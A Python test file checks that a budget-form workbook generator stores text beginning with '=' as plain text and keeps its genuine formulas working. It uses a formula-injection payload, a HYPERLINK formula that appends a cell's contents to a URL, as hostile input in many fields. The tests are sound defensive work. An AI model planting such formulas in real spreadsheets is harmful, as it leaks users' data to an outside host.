"""A form's words and a clerk's entries that begin with = are text in the workbook, never formulas."""

import io
from collections.abc import Iterator
from functools import cache

from openpyxl import Workbook, load_workbook

from data_entry.blank.write import workbook_bytes
from data_entry.questions import AnnexKind, ExtraSheet, Option, Questions
from data_entry.sample import sample
from data_entry.subjects.catalogue import load
from generator.forms.finding import find_form
from generator.forms.form import load_form

EVIL = '=HYPERLINK("http://127.0.0.1/"&B6,"x")'


def fact(name: str, tag: str, **more: object) -> dict[str, object]:
    return {"名称": name, "标签": tag, "出处": EVIL, "示例": EVIL, "说明": EVIL, **more}


@cache
def hostile() -> Questions:
    """A shipped form's questions, with words that look like formulas wherever a form has words."""
    sheets = [
        {
            "工作表": "=1+1",
            "标签": "甲",
            "说明": EVIL,
            "内容": [
                fact(EVIL, "子", 必填=True),
                fact(f"{EVIL}2", "丑"),
                fact(f"{EVIL}3", "寅", 取值=["=1", '乙"丙']),
            ],
        },
        {
            "工作表": "=清单",
            "标签": "乙",
            "说明": EVIL,
            "形式": "表",
            "内容": [fact(EVIL, "卯"), fact(f"{EVIL}2", "辰", 必填=True)],
        },
    ]
    annex = {
        "键": "怪",
        "工作表": "=报告",
        "标题句": "甲",
        "按项目": True,
        "章节": [
            {"级": 1, "标题": EVIL, "内容": ["文"], "提示": EVIL},
            {"级": 1, "标题": f"{EVIL}2", "内容": [EVIL]},
        ],
    }
    evil = EVIL.replace(",", "，")
    option = {"键": "k", "名称": EVIL, "取值": {evil: "a", "乙": "b"}, "默认": evil, "说明": EVIL}
    questions = load_form(find_form("sichuan-2024")).questions
    update = {
        "form": EVIL,
        "options": [Option.model_validate(option)],
        "sheets": tuple(map(ExtraSheet.model_validate, sheets)),
        "annexes": [AnnexKind.model_validate(annex)],
    }
    return questions.model_copy(update=update)


def formulas(book: Workbook) -> Iterator[tuple[str, str, str]]:
    for page in book.worksheets:
        for row in page.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield page.title, cell.coordinate, str(cell.value)


def texts(book: Workbook) -> list[str]:
    return [
        str(cell.value)
        for page in book.worksheets
        for row in page.iter_rows()
        for cell in row
        if cell.data_type == "s"
    ]


def test_words_of_a_form_are_no_formulas() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(hostile(), load(2024))))
    assert [each for each in formulas(book) if "HYPERLINK" in each[2]] == []
    assert [each for each in formulas(book) if each[0] in ("=1+1", "=清单", "=报告")] == [
        each for each in formulas(book) if "金额单位" in each[2] and each[0].startswith("=")
    ]
    assert "=1+1" in texts(book)  # 页名写在第一行，也列在填报说明里
    assert sum(text.startswith(EVIL) for text in texts(book)) >= 14


def test_entries_are_no_formulas() -> None:
    entries = sample(hostile())
    entries.sheets["unit"]["name"] = EVIL
    entries.sheets["projects"][0]["name"] = EVIL
    entries.options[EVIL] = EVIL
    entries.narratives[0].subject = EVIL
    entries.narratives[0].chapters[0].text = EVIL
    book = load_workbook(io.BytesIO(workbook_bytes(hostile(), load(2024), entries)))
    assert [each for each in formulas(book) if "HYPERLINK" in each[2]] == []
    assert book["单位信息"]["B5"].value == EVIL
    assert book["=报告"]["E5"].value == EVIL
    assert book["=报告"]["E6"].value == EVIL


def test_the_formulas_of_the_workbook_are_still_formulas() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(hostile(), load(2024))))
    places = {(sheet, cell) for sheet, cell, _ in formulas(book)}
    assert {
        ("收支决算", "A3"),
        ("收支决算", "B14"),
        ("上年对比", "B5"),
        ("上年对比", "D5"),
        ("一般公共预算支出", "B5"),
        ("一般公共预算支出", "C5"),
        ("自动核对", "B5"),
        ("自动核对", "E5"),
    } <= places


def test_a_quote_in_a_choice_stays_in_its_drop_down() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(hostile(), load(2024))))
    rules = book["=1+1"].data_validations.dataValidation
    assert [rule.formula1 for rule in rules if rule.type == "list"] == ['"=1,乙""丙"']
